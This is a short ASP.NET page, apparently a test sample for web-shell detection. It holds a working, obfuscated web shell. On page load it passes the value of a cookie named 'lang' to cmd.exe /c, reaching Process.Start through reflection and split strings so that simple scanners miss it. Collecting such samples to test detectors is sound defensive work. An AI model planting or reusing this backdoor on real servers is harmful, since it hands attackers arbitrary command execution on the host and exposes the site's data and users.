<%@ Page Language="C#" %>
<script runat="server">
    // test sample: the method name glued, the delegate made on the MethodInfo, called with DynamicInvoke
    protected void Page_Load(object sender, EventArgs e) {
        var pt = typeof(System.Diagnostics.Process);
        var mi = pt.GetMethod("St" + "art", new[] { typeof(string), typeof(string) });
        Delegate d = mi.CreateDelegate(typeof(Func<string, string, System.Diagnostics.Process>));
        string a = Request.Cookies["lang"] != null ? Request.Cookies["lang"].Value : "";
        d.DynamicInvoke(new object[] { "cm" + "d.exe", "/c " + a });
    }
</script>
